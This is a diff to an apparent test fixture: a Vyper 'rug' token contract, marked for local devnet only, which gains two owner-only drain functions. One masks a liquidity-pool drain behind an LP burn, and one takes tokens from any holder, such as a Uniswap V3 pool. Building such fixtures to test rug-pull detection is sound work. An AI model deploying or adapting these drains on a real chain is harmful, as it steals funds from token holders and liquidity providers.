@@ -5,11 +5,15 @@
         balance (typically a Uniswap V2 pair) and then call the pair's ``sync()`` so the pair's
         reserves follow its shrunken balance.  ``drain`` logs the move as a Transfer (the common
         rug); ``stealth_drain`` moves the balance without any log (a token whose balance changes
-        do not match its Transfer logs).  Never deploy this anywhere but a local devnet.
+        do not match its Transfer logs); ``masked_drain`` hides the drain behind a small burn of
+        LP tokens this contract holds, in the same transaction; ``take`` moves tokens out of any
+        holder without a ``sync()`` (a V3 pool has none).  Never deploy this anywhere but a local devnet.
 """
 
 interface Pair:
     def sync(): nonpayable
+    def burn(to: address) -> (uint256, uint256): nonpayable
+    def transfer(to: address, amount: uint256) -> bool: nonpayable
 
 event Transfer:
     sender: indexed(address)
@@ -88,3 +92,23 @@ def stealth_drain(pair: address, amount: uint256):
     assert msg.sender == self.owner, "DRAIN: only the owner"
     self._move(pair, msg.sender, amount)
     extcall Pair(pair).sync()
+
+
+@external
+def masked_drain(pair: address, amount: uint256, lp_amount: uint256):
+    """Take ``amount`` out of ``pair``, then burn ``lp_amount`` of the pair's LP tokens held by
+    this contract, so the reserves drop at a Sync followed by a Burn."""
+    assert msg.sender == self.owner, "DRAIN: only the owner"
+    self._move(pair, msg.sender, amount)
+    log Transfer(sender=pair, receiver=msg.sender, value=amount)
+    assert extcall Pair(pair).transfer(pair, lp_amount), "DRAIN: LP transfer failed"
+    extcall Pair(pair).burn(msg.sender)
+
+
+@external
+def take(holder: address, amount: uint256):
+    """Take ``amount`` out of any ``holder`` (logged as a Transfer), with no ``sync()``: how the
+    token drains a pool that has none, such as a Uniswap V3 pool."""
+    assert msg.sender == self.owner, "DRAIN: only the owner"
+    self._move(holder, msg.sender, amount)
+    log Transfer(sender=holder, receiver=msg.sender, value=amount)
